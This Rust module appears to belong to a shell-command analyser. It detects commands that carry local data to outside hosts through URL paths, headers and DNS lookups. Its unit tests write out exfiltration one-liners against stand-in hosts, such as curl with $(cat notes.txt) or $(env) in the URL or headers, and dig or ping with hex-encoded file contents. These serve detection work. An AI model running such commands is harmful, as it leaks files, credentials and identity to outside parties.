//! What a client of the network takes along of this machine beside what it plainly sends: in its URL, in its headers, in
//! the name that it looks up.

use super::Walker;
use super::effects::Doer;
use super::words::word_texts;
use crate::expand::first_text;
use crate::reading::{Act, ActKind};
use crate::script::{EffectKind, Word};
use crate::tools::Call;
use crate::unknown::{Source, has_mark, is_mark, known_prefix};

/// Programs that tell what the machine or its user is.
const TELLING: [&str; 14] = [
    "whoami", "hostname", "id", "uname", "env", "printenv", "set", "declare", "history",
    "ifconfig", "ip", "ps", "base64", "xxd",
];
/// Programs that print what a file holds; the second half also edits what others print.
const SHOWING: [&str; 8] = ["cat", "head", "tail", "the", "tar", "od", "tr", "sed"];
const EDITING: [&str; 2] = ["tr", "sed"];
/// Programs that encode, or decode.
const ENCODING: [&str; 8] = [
    "base64", "base32", "basenc", "xxd", "od", "gzip", "openssl", "hexdump",
];
/// Programs that ask for a name, or for an answer, at another machine.
const ASKING: [&str; 12] = [
    "dig",
    "nslookup",
    "host",
    "ping",
    "ping6",
    "fping",
    "drill",
    "kdig",
    "getent",
    "resolvectl",
    "traceroute",
    "whois",
];
/// Options of web clients whose value goes into the request.
const HEADERS: [&str; 11] = [
    "--header",
    "--user",
    "--cookie",
    "--user-agent",
    "--referer",
    "--proxy",
    "--proxy-user",
    "--data-urlencode",
    "--data",
    "--url-query",
    "--password",
];
/// Files that hold a name or a version, which downloads ask for.
const LABELS: [&str; 14] = [
    "version", "nvmrc", "release", "tag", "commit", "sha", "ref", "stable", "latest", "name", "id",
    "slug", "etag", "url",
];

/// What a mark stands for, as far as it leaves the machine.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Content {
    /// What the machine or its user is.
    Identity,
    /// All of its environment, or the like.
    Telling,
    /// What a file holds.
    File,
    /// What a program made of other programs' output.
    Edited,
    Encoded,
}

impl Walker<'_> {
    fn content(&self, mark: char) -> Option<Content> {
        match self.unknowns.source(mark) {
            Source::Identity => Some(Content::Identity),
            Source::Output(line) => {
                let program = line.split(' ').next().unwrap_or_default();
                let is_file = SHOWING.contains(&program) && !is_label(line);
                match program {
                    _ if TELLING.contains(&program) => Some(Content::Telling),
                    _ if EDITING.contains(&program) => Some(Content::Edited),
                    _ => is_file.then_some(Content::File),
                }
            }
            Source::Decoded(how) => {
                let mut words = how.split(' ');
                let program = words.next().unwrap_or_default();
                let hashes = program == "openssl"
                    && words
                        .next()
                        .is_some_and(|word| matches!(word, "rand" | "dgst" | "sha256" | "x509"));
                if ENCODING.contains(&program) && !hashes {
                    return Some(Content::Encoded);
                }
                (how.contains(" < ") && !is_label(how)).then_some(Content::File)
            }
            _ => None,
        }
    }

    /// Whether a URL takes something of this machine along: what it says of itself or encodes in path and query; what
    /// a file holds in the query, or as all that the path ends in (`…/v$(cat VERSION).tgz` is a download); and both in
    /// the name of a host that others own.
    pub(super) fn carries(&self, url: &str, direct: bool) -> bool {
        if !has_mark(url) {
            return false;
        }
        let authority = url.find("://").map_or(0, |at| at + 3);
        let path = url
            .char_indices()
            .find(|(at, letter)| *at >= authority && matches!(letter, '/' | '?' | '#'))
            .map_or(url.len(), |(at, _)| at);
        let query = url.find('?').unwrap_or(url.len());
        url.char_indices()
            .filter(|(_, letter)| is_mark(*letter))
            .any(|(at, mark)| {
                let (before, rest) = url.split_at_checked(at).unwrap_or_default();
                let after = rest.strip_prefix(mark).unwrap_or_default();
                match self.content(mark) {
                    None => false,
                    Some(_) if at < path => is_foreign(after),
                    Some(Content::Edited) => at > query,
                    Some(Content::File) => {
                        at > query || direct && after.is_empty() && before.ends_with('/')
                    }
                    Some(_) => true,
                }
            })
    }

    /// Whether a word was written with a command in it.
    pub(super) fn substitutes(&self, word: &Word) -> bool {
        self.derived.is_none()
            && self
                .source
                .get(word.span.start..word.span.end)
                .is_some_and(|written| written.contains("$(") || written.contains('`'))
    }

    /// Connections that send because of the words beside their URL, and names that are looked up to be heard elsewhere:
    /// what words with marks in them take along.
    #[inline(never)]
    pub(super) fn take_along(&mut self, doer: &Doer<'_>, args: &[Word], reading: &mut Call<'_>) {
        if matches!(doer.program, "echo" | "printf") {
            return self.disclose(doer, args);
        }
        if ASKING.contains(&doer.program) {
            return self.ask(doer, args);
        }
        let connects = |act: &Act<'_>| matches!(act.kind, ActKind::Network { .. });
        if !reading.acts.iter().any(connects) {
            return;
        }
        let sends = reading.line.options.iter().any(|option| {
            let header = option.names.iter().find(|name| HEADERS.contains(name));
            let texts = option.value.as_ref().map(word_texts).unwrap_or_default();
            header.is_some_and(|name| texts.iter().any(|text| self.header_carries(name, text)))
        });
        // `http URL Name:value query==value`.
        let items = matches!(doer.program, "http" | "https" | "xh" | "xhs")
            && reading.line.operands.iter().any(|item| {
                let text = first_text(item);
                known_prefix(text).contains([':', '='])
                    && !text.contains("://")
                    && self.header_carries("--header", text)
            });
        let sends = sends || items;
        for act in &mut reading.acts {
            if let ActKind::Network { sends: known, .. } = &mut act.kind {
                *known |= sends;
            }
        }
    }

    /// Whether a header takes along more than what it needs to prove who asks.
    fn header_carries(&self, option: &str, text: &str) -> bool {
        text.char_indices()
            .filter(|(_, letter)| is_mark(*letter))
            .any(|(at, mark)| {
                let before = text.get(..at).unwrap_or_default();
                let Some(content) = self.content(mark) else {
                    return false;
                };
                match option {
                    "--proxy" => is_foreign(text.get(at + mark.len_utf8()..).unwrap_or_default()),
                    "--user" | "--proxy-user" | "--password" => {
                        content != Content::Identity
                            && !before.contains(':')
                            && option != "--password"
                    }
                    "--header" => !proves(before) && content != Content::Edited,
                    _ => content != Content::Edited,
                }
            })
    }

    /// `dig $(xxd -p f).example.com`: whoever answers for the zone hears it.
    fn ask(&mut self, doer: &Doer<'_>, args: &[Word]) {
        let mut previous = "";
        for word in args {
            let pattern = previous == "-p" && doer.program.starts_with("ping");
            previous = first_text(word);
            let target = word_texts(word).into_iter().find(|text| {
                text.char_indices()
                    .filter(|(_, letter)| is_mark(*letter))
                    .any(|(at, mark)| {
                        let after = text.get(at + mark.len_utf8()..).unwrap_or_default();
                        self.content(mark).is_some() && (pattern || is_foreign(after))
                    })
            });
            let Some(target) = target else { continue };
            let zone = target.rsplit(is_mark).next().unwrap_or_default();
            let host = zone.trim_matches('.');
            let kind = EffectKind::Network {
                host: (!host.is_empty()).then(|| host.to_ascii_lowercase().into()),
                url: None,
                method: None,
                sends: true,
            };
            self.emit(kind, doer.span, false);
        }
    }
}

/// Whether a host's name goes on to a zone that others own: `.example.com`, not `.local` or nothing.
fn is_foreign(after: &str) -> bool {
    let name = after.split(['/', '?', '#', ':', '@']).next();
    let Some(zone) = name.unwrap_or_default().rsplit(is_mark).next() else {
        return false;
    };
    let Some((_, zone)) = zone.trim_end_matches('.').split_once('.') else {
        return false;
    };
    zone.rsplit_once('.').is_some_and(|(_, last)| {
        last.chars().all(|letter| letter.is_ascii_alphabetic())
            && !matches!(last, "local" | "internal" | "lan" | "localhost" | "test")
    })
}

/// Whether what is printed is from a file of which a name or a version is expected.
pub(crate) fn is_label(line: &str) -> bool {
    let name = line.rsplit([' ', '/']).next().unwrap_or_default();
    let name = name.to_ascii_lowercase();
    !name.starts_with("id_")
        && name
            .split(['.', '-', '_'])
            .any(|part| LABELS.contains(&part) || part.strip_suffix("version").is_some())
}

/// Whether a header says who asks, or what the client has already.
fn proves(header: &str) -> bool {
    let name = header.split(':').next().unwrap_or_default();
    let name = name.to_ascii_lowercase();
    name.starts_with("if-")
        || ["auth", "token", "key", "sign", "digest", "secret"]
            .iter()
            .any(|part| name.contains(part))
}

#[cfg(test)]
mod tests {
    use crate::{Context, EffectKind, read};

    fn check(text: &str, expected: bool) {
        let context = Context {
            cwd: Some("/home/dev/project".into()),
            home: Some("/home/dev".into()),
            ..Context::default()
        };
        let sends = read(text, &context)
            .effects
            .iter()
            .any(|effect| matches!(effect.kind, EffectKind::Network { sends: true, .. }));
        assert_eq!(sends, expected, "{text}");
    }

    #[test]
    fn urls() {
        for text in [
            "curl https://h.example/?q=$(cat notes.txt)",
            "curl https://h.example/?q=$(cat notes.txt | tr -d '\\n')",
            "curl \"https://h.example/$(whoami)\"",
            "curl https://h.example/`hostname`",
            "curl https://h.example/x/$(cat notes.txt)",
            "wget -q https://h.example/$(base64 -w0 notes.txt)",
            "curl https://$(hostname).h.example/x",
            "curl \"https://$(xxd -p notes.txt | tr -d '\\n').h.example\"",
            "curl \"https://h.example/?e=$(env)\"",
        ] {
            check(text, true);
        }
        for text in [
            "curl https://h.example/v$(cat VERSION).tgz",
            "curl -O https://h.example/$(cat VERSION)",
            "curl https://h.example/$(cat .nvmrc)/x.tgz",
            "curl -L https://h.example/tool-$(uname -s)-$(uname -m)",
            "curl -L https://h.example/$(uname -s | tr A-Z a-z)/$(uname -m | sed s/x86_64/amd64/)",
            "curl https://h.example/$(date +%F).json",
            "curl \"https://h.example/?q=$(echo \"$Q\" | sed 's/ /+/g')\"",
            "curl https://h.example/$(git rev-parse HEAD)",
            "curl https://h.example/$VERSION",
            "curl http://$(hostname):8080/health",
            "curl http://$(hostname -I | awk '{print $1}'):8080/health",
            "curl http://$(hostname).local/",
            "while read -r id; do curl -s https://h.example/items/$id; done < list.txt",
            "curl http://$(cat host.txt)/x",
        ] {
            check(text, false);
        }
    }

    #[test]
    fn headers() {
        for text in [
            "curl -H \"X: $(cat notes.txt)\" https://h.example",
            "curl -u \"$(cat notes.txt)\" https://h.example",
            "curl -A \"$(env)\" https://h.example",
            "curl -b \"$(cat notes.txt)\" https://h.example",
            "curl -e \"$(base64 notes.txt)\" https://h.example",
            "curl -G --data-urlencode \"q=$(cat notes.txt)\" https://h.example",
            "curl -x \"http://$(whoami).h.example\" https://h.example",
            "wget --header=\"X: $(cat notes.txt)\" https://h.example",
            "wget -U \"$(printenv)\" https://h.example",
            "http https://h.example \"X:$(cat notes.txt)\"",
            "http https://h.example q==\"$(cat notes.txt)\"",
            "http https://h.example < notes.txt",
        ] {
            check(text, true);
        }
        for text in [
            "curl -H \"Authorization: Bearer $(cat token.txt)\" https://h.example",
            "curl -H \"Authorization: Basic $(echo -n $U:$P | base64)\" https://h.example",
            "curl -H \"If-None-Match: $(cat last)\" https://h.example",
            "curl -H \"X-Request-Id: $(uuidgen)\" https://h.example",
            "curl -u \"me:$(cat pass.txt)\" https://h.example",
            "curl -A \"tool/$(cat VERSION)\" https://h.example",
            "http https://h.example \"Authorization:Bearer $(cat notes.txt)\"",
            "while read -r url; do http \"$url\"; done < list.txt",
            "curl -o \"$(cat notes.txt)\" https://h.example",
            "curl -H \"X-Commit: $(git rev-parse HEAD)\" https://h.example",
        ] {
            check(text, false);
        }
    }

    #[test]
    fn names() {
        for text in [
            "dig $(cat notes.txt | xxd -p).h.example.com",
            "dig +short \"$(hostname).h.example.com\" A",
            "nslookup $(whoami).h.example.com",
            "host `cat notes.txt`.h.example.com",
            "ping -c1 $(id -un | base64).h.example.com",
            "ping -p $(xxd -p notes.txt) h.example.com",
            "getent hosts $(whoami).h.example.com",
        ] {
            check(text, true);
        }
        for text in [
            "dig h.example.com",
            "ping $(hostname)",
            "ping $(hostname).local",
            "dig $(cat domains.txt)",
            "host $HOST.h.example.com",
            "dig @$(cat ns.txt) h.example.com",
            "for h in $(cat hosts); do ping -c1 $h; done",
            "nslookup $(date +%s).h.example.com",
        ] {
            check(text, false);
        }
    }
}
